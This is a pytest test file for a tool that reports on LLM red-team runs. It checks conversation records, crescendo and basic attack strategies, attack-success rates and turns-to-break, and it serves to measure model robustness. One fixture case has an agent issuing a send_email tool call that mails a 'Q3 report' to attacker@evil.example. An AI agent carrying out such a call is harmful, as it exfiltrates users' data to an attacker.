"""Schema version 3 (issue 32, point 1): a case may carry its whole conversation (turns, tool calls, tool results,
the judged turn), the attack strategy, the plugin and a limit it hit; versions 1 and 2 read unchanged through the
one migration chain, and every figure reads as before."""

import json
from pathlib import Path

import pytest

import reporting
from reporting.cli import main
from reporting.sources.reading import load_run

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "format"


def test_a_conversation_with_tool_calls_reads_whole():
    run = reporting.read_run(FIXTURES / "v3.json")
    assert run.schema_version == 3
    crescendo, agent, limited, plain = run.cases
    assert [m.role for m in crescendo.messages] == ["user", "assistant", "user", "assistant"]
    assert crescendo.messages[2].model_extra == {"round": 2}  # the tool's own per-turn fields are kept
    assert crescendo.strategy == "crescendo" and crescendo.plugin == "harmful:chemical-biological-weapons"
    send = agent.messages[4].tool_calls[0]
    assert send.function == "send_email" and send.arguments == {"to": "attacker@evil.example", "body": "Q3 report"}
    assert agent.messages[3].role == "tool" and agent.messages[3].tool_call_id == "c1"
    assert agent.messages[agent.judged_turn].content == agent.response
    assert limited.limit.type == "message" and limited.limit.limit == 4 and limited.messages is None
    assert plain.messages is None and plain.strategy is None


def test_figures_are_those_of_the_cases_as_before():
    """By hand: 4 cases, 2 failed (both high or critical), 2 passed."""
    m = reporting.aggregate_metrics(reporting.read_run(FIXTURES / "v3.json"))
    assert m["counts"]["cases"] == 4 and m["counts"]["failed"] == 2 and m["counts"]["passed"] == 2
    assert m["overall"]["pass_rate"] == pytest.approx(0.5)


def test_the_report_keeps_the_conversation_and_leaves_out_unused_fields(tmp_path):
    out = tmp_path / "r.json"
    assert main(["recompute", str(FIXTURES / "v3.json"), "-o", str(out)]) == 0
    document = json.loads(out.read_text())
    assert document["schema_version"] == 3
    cases = {c["probe_id"]: c for c in document["cases"]}
    turns = cases["agent#0"]["messages"]
    assert turns[4]["tool_calls"][0]["arguments"]["to"] == "attacker@evil.example"
    assert "tool_calls" not in turns[1] and "tool_call_id" not in turns[1] and turns[3]["tool_call_id"] == "c1"
    assert cases["agent#0"]["judged_turn"] == 5 and cases["limited#0"]["limit"]["type"] == "message"
    assert not {"messages", "judged_turn", "strategy", "plugin", "limit"} & set(cases["plain#0"])
    again = reporting.read_run(out)  # what recompute writes reads back as the same conversation
    assert again.cases[1].messages == reporting.read_run(FIXTURES / "v3.json").cases[1].messages


@pytest.mark.parametrize(
    "change, path, message",
    [
        ({"judged_turn": 9}, "cases[0].judged_turn", "must be the index of a turn of messages (it has 4)"),
        ({"judged_turn": 2}, "cases[0].judged_turn", "must be the index of an assistant turn"),
        ({"messages": [{"role": "wizard", "content": "x"}]}, "cases[0].messages[0].role", ""),
        ({"messages": [{"role": "user", "content": 5}]}, "cases[0].messages[0].content", "must be a string"),
        ({"messages": [{"role": "assistant", "tool_calls": [{"arguments": {}}]}]}, "function", "missing"),
        ({"limit": {"limit": 3}}, "cases[0].limit.type", "missing"),
    ],
)
def test_a_malformed_conversation_is_a_problem_naming_the_field(tmp_path, change, path, message):
    document = json.loads((FIXTURES / "v3.json").read_text())
    document["cases"][0].update(change)
    if "messages" in change and "judged_turn" not in change:
        document["cases"][0].pop("judged_turn")
    source = tmp_path / "bad.json"
    source.write_text(json.dumps(document))
    result = load_run(source)
    assert [c.probe_id for c in result.run.cases] == ["agent#0", "limited#0", "plain#0"]  # the others are kept
    assert len(result.problems) >= 1
    assert any(path in p.path and message in p.message for p in result.problems), result.problems


def test_version_2_extras_named_like_version_3_fields_keep_their_meaning(tmp_path):
    """A version 2 file's free-form ``messages`` or ``strategy`` (any shape) are extras, renamed v2_<name>."""
    case = {"probe_id": "a", "category": "c", "severity": "low", "passed": True, "risk_score": 0.1}
    legacy = {**case, "messages": "free text, not turns", "strategy": 7, "limit": [1, 2]}
    path = tmp_path / "v2.json"
    path.write_text(json.dumps({"schema_version": 2, "run": {"run_id": "r"}, "cases": [legacy]}))
    run = reporting.read_run(path)
    assert run.cases[0].messages is None and run.cases[0].strategy is None and run.cases[0].limit is None
    assert run.cases[0].model_extra == {"v2_messages": "free text, not turns", "v2_strategy": 7, "v2_limit": [1, 2]}
    with pytest.raises(reporting.ReportError):  # the same case as version 3 is checked as turns
        path.write_text(json.dumps({"schema_version": 3, "run": {"run_id": "r"}, "cases": [legacy]}))
        reporting.read_run(path)


def _strategy_run(tmp_path):
    """By hand: crescendo 3 cases (2 failed, after 2 and 3 user turns), basic 2 cases (1 failed, single turn),
    and one case naming no strategy (not counted)."""

    def case(pid, strategy, passed, category, users=0):
        c = {"probe_id": pid, "category": category, "severity": "high", "passed": passed, "risk_score": 0.5}
        if strategy:
            c["strategy"] = strategy
        if users:
            turns = []
            for i in range(users):
                turns += [{"role": "user", "content": f"ask {i}"}, {"role": "assistant", "content": f"answer {i}"}]
            c["messages"], c["judged_turn"] = turns, len(turns) - 1
        return c

    cases = [
        case("c1", "crescendo", False, "cyber", 2),
        case("c2", "crescendo", False, "chem", 3),
        case("c3", "crescendo", True, "chem", 4),
        case("b1", "basic", False, "chem"),
        case("b2", "basic", True, "cyber"),
        case("n1", None, False, "chem"),
    ]
    path = tmp_path / "s.json"
    path.write_text(json.dumps({"schema_version": 3, "run": {"run_id": "s"}, "cases": cases}))
    return path


def test_attack_success_by_strategy_and_category_known_answers(tmp_path):
    from reporting.analysis.stats import wilson

    m = reporting.aggregate_metrics(reporting.read_run(_strategy_run(tmp_path)))
    crescendo, basic = m["by_strategy"]["crescendo"], m["by_strategy"]["basic"]
    assert list(m["by_strategy"]) == ["basic", "crescendo"]
    assert crescendo["n"] == 3 and crescendo["attacks_succeeded"] == 2
    assert crescendo["attack_success_rate"] == pytest.approx(2 / 3)
    assert crescendo["attack_success_rate_ci"] == pytest.approx(wilson(2, 3))
    assert crescendo["turns_to_break"] == {"2": 1, "3": 1} and crescendo["turns_to_break_median"] == 2.5
    assert basic["attack_success_rate"] == 0.5 and basic["turns_to_break"] == {}
    heat = m["by_strategy_category"]
    assert heat["crescendo"]["chem"]["n"] == 2 and heat["crescendo"]["chem"]["attacks_succeeded"] == 1
    assert heat["crescendo"]["cyber"]["attack_success_rate"] == 1.0 and set(heat["basic"]) == {"chem", "cyber"}
    plain = reporting.aggregate_metrics(reporting.read_run(FIXTURES / "v2.json"))
    assert plain["by_strategy"] == {} and plain["by_strategy_category"] == {}


def test_the_strategy_filter_and_the_text_search_read_strategies_and_turns(tmp_path):
    from reporting.analysis.filters import Filters

    run = reporting.read_run(_strategy_run(tmp_path))
    only = reporting.build_report(run, filters=Filters(strategies=("crescendo",)), with_observability=False)
    assert sorted(only.frame["probe_id"]) == ["c1", "c2", "c3"] and only.metrics["counts"]["cases"] == 3
    turns = reporting.build_report(run, filters=Filters(text="ASK 3"), with_observability=False)
    assert list(turns.frame["probe_id"]) == ["c3"]  # only c3 has a fourth user turn
    agent = reporting.read_run(FIXTURES / "v3.json")
    called = reporting.build_report(agent, filters=Filters(text="attacker@evil"), with_observability=False)
    assert list(called.frame["probe_id"]) == ["agent#0"]  # in a tool result and a tool call's arguments


def test_a_conversation_survives_the_parquet_case_table(tmp_path):
    """recompute --format parquet keeps every version 3 field (they ride in the table's extra JSON, the table says
    it is version 3); a table written before version 3 still reads its extras as extras."""
    assert main(["recompute", str(FIXTURES / "v3.json"), "--format", "parquet", "-o", str(tmp_path / "r.json")]) == 0
    again = reporting.read_run(tmp_path / "r.parquet")
    original = reporting.read_run(FIXTURES / "v3.json")
    for a, b in zip(again.cases, original.cases):
        assert (a.messages, a.judged_turn, a.strategy, a.plugin, a.limit) == (
            b.messages,
            b.judged_turn,
            b.strategy,
            b.plugin,
            b.limit,
        )
    assert reporting.aggregate_metrics(again)["by_strategy"] == reporting.aggregate_metrics(original)["by_strategy"]


def test_a_case_not_evaluated_is_an_error_of_every_judge_that_was_to_judge_it(tmp_path):
    """By hand: judge j passed a, failed b, and could not judge c (the sample errored): n 3, 1 passed, 1 failed,
    1 error, pass rate 1/2 over what it judged; the same through build_report (the dashboard's and HTML's path)."""
    cases = [
        {"probe_id": "a", "category": "c", "severity": "low", "passed": True, "risk_score": 0.0,
         "verdicts": {"j": {"passed": True, "score": 1.0}}},
        {"probe_id": "b", "category": "c", "severity": "low", "passed": False, "risk_score": 1.0,
         "verdicts": {"j": {"passed": False, "score": 0.0}}},
        {"probe_id": "c", "category": "c", "severity": "low", "passed": None, "risk_score": None,
         "error": "the sample raised", "verdicts": {"j": {"passed": None, "explanation": "the sample raised"}}},
    ]  # fmt: skip
    path = tmp_path / "e.json"
    path.write_text(json.dumps({"schema_version": 3, "run": {"run_id": "e"}, "cases": cases}))
    run = reporting.read_run(path)
    for metrics in (reporting.aggregate_metrics(run), reporting.build_report(run, with_observability=False).metrics):
        j = metrics["judges"]["j"]
        assert (j["n"], j["passed"], j["failed"], j["errors"], j["pass_rate"]) == (3, 1, 1, 1, 0.5)
